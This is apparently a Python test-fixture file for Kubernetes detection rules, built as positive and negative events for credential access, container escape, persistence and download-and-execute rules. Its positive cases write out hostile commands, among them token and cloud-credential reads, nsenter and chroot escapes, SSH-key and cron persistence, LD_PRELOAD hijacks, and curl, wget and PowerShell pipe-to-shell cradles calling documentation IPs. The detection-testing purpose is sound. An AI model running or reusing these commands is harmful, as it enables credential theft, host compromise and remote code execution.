"""Positive and negative cases for the rules added or widened by issue 9 (argv everywhere, credential
locations, kubectl cp out, escapes, persistence, download-and-execute); test_rules.py runs them with its own."""

from __future__ import annotations

from typing import Any

from rules_builder import deny, exec_event, kubelet_event


def sh(cmd: str, **kw: Any) -> dict[str, Any]:
    return exec_event("shop", "web-7d9c", ["sh", "-c", cmd], **kw)


def run(*argv: str, **kw: Any) -> dict[str, Any]:
    return exec_event("shop", "web-7d9c", list(argv), **kw)


def cp_out(*paths: str) -> dict[str, Any]:
    return exec_event("shop", "db-0", ["tar", "cf", "-", *paths])


def with_body(ev: dict[str, Any], body: dict[str, Any]) -> dict[str, Any]:
    ev["level"] = "Request"
    ev["requestObject"] = {"kind": "PodExecOptions", "apiVersion": "v1", **body}
    return ev


def ctr(argv: list[str]) -> dict[str, Any]:
    return {"name": "main", "image": "ubuntu:22.04", "command": argv[:1], "args": argv[1:]}


# item 2: every token and credential location, read by any tool
CREDENTIAL_POSITIVE = [
    run("ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"),
    run("tar", "cf", "-", "/run/secrets/kubernetes.io/serviceaccount"),
    sh("ls -R /var/run/secrets"),
    run("cat", "/var/run/secrets/tokens/vault-token"),
    sh("base64 -w0 /var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
    sh('curl -s -H "Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)" http://169.254.170.23/v1/credentials'),
    run("head", "-c", "2000", "/var/run/secrets/azure/tokens/azure-identity-token"),
    sh("xxd /var/lib/kubelet/pki/kubelet-client-current.pem | head"),
    run("cp", "/etc/kubernetes/admin.conf", "/tmp/a"),
    sh("cat ~/.config/gcloud/application_default_credentials.json"),
    sh("base64 < ~/.aws/credentials"),
    sh("cat ~/.azure/accessTokens.json"),
    sh("while read -r l; do echo $l; done < /var/run/secrets/tokens/vault-token"),
    sh("curl -s $AWS_CONTAINER_CREDENTIALS_FULL_URI"),
    sh("curl -s -H 'Metadata-Flavor: Google' http://169.254.169.252:988/computeMetadata/v1/instance/service-accounts/"),
    run("ls", "/var/run/secrets/workload-spiffe-credentials"),
]
CREDENTIAL_NEGATIVE = [sh("ls /run/secrets/app"), sh("cat /var/run/app.pid"), run("ls", "/var/lib/app/"), sh("echo tokens")]

SHARPER_CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    "k8s-kubectl-cp-secrets": (
        [cp_out("/var/run/secrets/kubernetes.io/serviceaccount/token"), cp_out("/root/.ssh"), cp_out("/etc/shadow"),
         cp_out("/app/certs/server.key"), cp_out("/var/lib/postgresql/data"), cp_out("/home/app/.aws/credentials"),
         exec_event("shop", "db-0", ["sh", "-c", "tar cf - /bitnami/mysql/data | tail -c+1048576"])],
        [cp_out("/var/log/app.log"), cp_out("/app/reports"), deny(cp_out("/root/.ssh")),
         exec_event("shop", "db-0", ["tar", "-xmf", "-", "-C", "/root/.ssh"]), run("cat", "/app/secret-santa.txt")],
    ),
    "k8s-exec-argv-mismatch": (
        [with_body(run("ls"), {"command": ["sh", "-c", "curl http://203.0.113.7/x | sh"]})],
        [with_body(run("ls", "-la"), {"command": ["ls", "-la"]}), with_body(run(), {"command": ["id"]}), run("ls")],
    ),
    "cmd-host-escape": (
        [run("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"), sh("nsenter --target 1 --mount -- cat /etc/shadow"),
         run("chroot", "/host", "bash"), sh("chroot /host sh -c 'id'"),
         sh("curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json"),
         sh("docker -H unix:///host/run/docker.sock run -v /:/mnt --privileged alpine"),
         sh("crictl --runtime-endpoint unix:///run/containerd/containerd.sock ps"), sh("ctr -n k8s.io containers ls"),
         sh("mkdir /mnt/h && mount /dev/sda1 /mnt/h"), sh("mount -t cgroup -o rdma cgroup /tmp/cg"), sh("cat /proc/1/root/etc/hostname"),
         kubelet_event("node-1", "run/shop/web/app", [("cmd", "nsenter -t 1 -a sh")])],
        [sh("nsenter --help"), sh("mount | grep overlay"), sh("ls /host"), run("ctr"), sh("echo docker.sock"),
         sh("mount -t tmpfs tmpfs /tmp/x"), run("chroot", "/build/root", "make")],
    ),
    "k8s-exec-control-plane-signal": (
        [exec_event("kube-system", "coredns-5d78c9869d-abcde", ["ls"], credential_pod="runner-5f7b9",
                    user="system:serviceaccount:ci:runner", groups=("system:serviceaccounts",)),
         exec_event("kube-system", "kube-proxy-x1", ["ls"], user="system:node:ip-10-0-1-12", groups=("system:nodes",)),
         exec_event("kube-system", "coredns-1", ["ls"], user_agent="python-requests/2.31.0"),
         exec_event("infra", "etcd-master-1", ["etcdctl", "get", "/", "--prefix", "--keys-only"]),
         exec_event("kube-system", "kube-proxy-x1", ["cat", "/var/lib/kube-proxy/kubeconfig.conf"]),
         exec_event("kube-system", "aws-node-x1", ["sh", "-c", "curl -s http://10.0.0.1:8080/"])],
        [exec_event("kube-system", "coredns-1", ["ls"]), exec_event("kube-system", "coredns-1", ["cat", "/etc/coredns/Corefile"]),
         exec_event("shop", "web", ["curl", "-s", "http://svc/"], user_agent="python-requests/2.31.0"),
         deny(exec_event("kube-system", "coredns-1", ["ls"], user_agent="curl/8.5.0"))],
    ),
    "cmd-persistence": (
        [sh("echo 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys"),
         sh("cat /tmp/k.pub | tee -a ~/.ssh/authorized_keys"), sh("cp /tmp/k /host/root/.ssh/authorized_keys"),
         sh("(crontab -l; echo '* * * * * curl -s http://203.0.113.7/c | sh') | crontab -"),
         sh("echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/sync"), sh("echo '@reboot /tmp/.x' >> /var/spool/cron/root"),
         sh("cat > /etc/systemd/system/kworker.service <<EOF\n[Service]\nExecStart=/tmp/k\nEOF\nsystemctl enable kworker"),
         sh("echo /tmp/libhide.so > /etc/ld.so.preload"), sh("LD_PRELOAD=/tmp/libhide.so /bin/ls"),
         sh("export LD_PRELOAD=/dev/shm/h.so; sshd")],
        [sh("cat ~/.ssh/authorized_keys"), sh("crontab -l"), sh("systemctl status nginx"), sh("ls /etc/cron.d"),
         sh("ldd /bin/ls"), sh("cat /etc/ld.so.preload"), sh("echo ok > /tmp/crontab-report.txt")],
    ),
}
# powershell -enc of "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')" (UTF-16LE)
PS_ENC = ("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIA"
          "aQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADQANAAvAHMALgBwAHMAMQAnACkA")
DOWNLOAD_POSITIVE = [
    sh("wget -q -O- http://203.0.113.7/p.b64 | base64 -d | bash"),
    sh("busybox wget -O - http://203.0.113.7/x.sh | sh"),
    sh("busybox wget -O /tmp/x http://203.0.113.7/x; chmod +x /tmp/x; /tmp/x"),
    sh("curl -s http://203.0.113.7/x.gz | gunzip | sh -s -- --install"),
    sh("curl -s http://203.0.113.7/s.py | python3"),
    sh("python -c \"import urllib.request as u; u.urlretrieve('http://203.0.113.7/k', '/var/run/k'); "
       "import os; os.chmod('/var/run/k', 0o755)\""),
    sh("python3 -c \"import urllib.request;print(urllib.request.urlopen('http://203.0.113.7/x').read().decode())\" | bash"),
    sh("exec 3<>/dev/tcp/203.0.113.7/80; echo -e 'GET /x.sh HTTP/1.0\\r\\n' >&3; cat <&3 > /var/run/x; sh /var/run/x"),
    sh("cat < /dev/tcp/203.0.113.7/8080 | sh"),
    sh("wget http://203.0.113.7/bot -O /var/run/bot && chmod 755 /var/run/bot && /var/run/bot"),
    sh("curl -so k http://203.0.113.7/k && ./k"),
    run("powershell", "-nop", "-c", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')"),
    run("powershell", "-nop", "-w", "hidden", "-enc", PS_ENC),
    run("pwsh", "-c", "iwr http://192.0.2.44/s.ps1 -UseBasicParsing | iex"),
]
DOWNLOAD_NEGATIVE = [
    sh("curl -s http://svc:8080/api | python3 -m json.tool"),
    sh("curl -fsSL -o /app/out.json http://api.example.com/status && echo done"),
    sh("wget -q http://example.com/file.tar.gz; tar xzf file.tar.gz"),
    sh("curl -s http://svc/healthz | grep ok"),
    run("powershell", "-c", "Invoke-WebRequest http://svc/healthz -UseBasicParsing"),
]


def add_sharper_cases(cases: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]]) -> None:
    """Add the new rules' cases and widen the credential and download-and-execute ones."""
    cases.update(SHARPER_CASES)
    for rule_id, positive, negative in (("cmd-credential-access", CREDENTIAL_POSITIVE, CREDENTIAL_NEGATIVE),
                                        ("cmd-download-pipe-shell", DOWNLOAD_POSITIVE, DOWNLOAD_NEGATIVE)):
        cases[rule_id][0].extend(positive)
        cases[rule_id][1].extend(negative)
